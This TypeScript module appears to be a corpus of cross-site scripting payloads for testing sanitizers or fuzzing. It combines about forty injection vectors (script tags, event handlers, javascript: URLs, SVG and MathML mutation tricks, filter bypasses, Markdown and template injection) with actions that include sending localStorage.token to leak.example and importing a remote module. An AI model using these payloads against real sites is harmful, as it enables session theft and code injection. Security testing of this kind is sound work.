/** What a payload tries once it runs: each shows in the page, as a dialog, or as a request that leaves the origin. */
const DEEDS = [
  'window.ran=1',
  'alert(1)',
  "fetch('//leak.example/'+localStorage.token)",
  "new Image().src='//leak.example/i'",
  "import('//leak.example/m.js')",
] as const;

type Vector = (deed: string) => string;

/** Ways in: markup, attributes, addresses, Markdown, templates, and what breaks out of a place or a filter. */
const VECTORS: readonly Vector[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `<!--><script>${deed}</script>-->`,
  (deed) => `<scr<script>ipt>${deed}</script>`,
  (deed) => `<SCRIPT/x>${deed}</SCRIPT\t>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img/src="x"/onerror=${deed}//>`,
  (deed) => `<IMG """><img src=x onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<marquee onstart="${deed}">`,
  (deed) => `<p style="animation-name:x" onanimationstart="${deed}">`,
  (deed) => `' autofocus onfocus='${deed}`,
  (deed) => `" onmouseover="${deed}" x="`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="data:text/html,<script>${deed}</script>">`,
  (deed) => `<a href="javascript:${deed}">a</a>`,
  (deed) => `<a href="java\tscript:${deed}">a</a>`,
  (deed) => `[a](javascript:${deed})`,
  (deed) => `![a](https://leak.example/${encodeURIComponent(deed)})`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>a</button></form>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<link rel=stylesheet href="//leak.example/${encodeURIComponent(deed)}">`,
  (deed) => `<style>@import '//leak.example/${encodeURIComponent(deed)}';</style>`,
  (deed) => `<base href="//leak.example/"><script src="a.js">${deed}</script>`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}">`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}<%= ${deed} %>`,
  (deed) => `\\u003cscript\\u003e${deed}&lt;/script&gt;%3Cimg src=x onerror=${deed}%3E`,
];

/** 200 of them: every way in with every deed. */
export const MARKUP_PAYLOADS: readonly string[] = VECTORS.flatMap((vector) => DEEDS.map(vector));

/** The same in texts of at most `characters`, none cut. */
export function packPayloads(characters: number, payloads = MARKUP_PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    const longer = last === undefined ? payload : `${last}\n${payload}`;
    if (last !== undefined && longer.length <= characters) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
